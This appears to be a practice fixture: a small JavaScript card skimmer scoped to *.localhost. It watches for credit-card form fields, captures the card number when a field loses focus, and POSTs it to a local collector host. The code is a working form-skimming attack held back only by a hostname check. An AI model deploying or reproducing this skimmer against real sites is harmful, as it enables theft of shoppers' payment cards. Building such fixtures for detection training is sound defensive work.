/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const watched = new WeakSet();
  const look = () => {
    for (const field of document.querySelectorAll('[autocomplete^=cc-]')) {
      if (watched.has(field)) continue;
      watched.add(field);
      field.addEventListener('blur', send);
    }
  };
  function send() {
    const number = document.querySelector('[autocomplete=cc-number]').value;
    if (number.length < 13) return;
    const request = new XMLHttpRequest();
    request.open('POST', `${home}/lib/w`);
    request.setRequestHeader('content-type', 'application/x-www-form-urlencoded');
    request.send(new URLSearchParams({ number }).toString());
  }
  new MutationObserver(look).observe(document, { childList: true, subtree: true });
})();
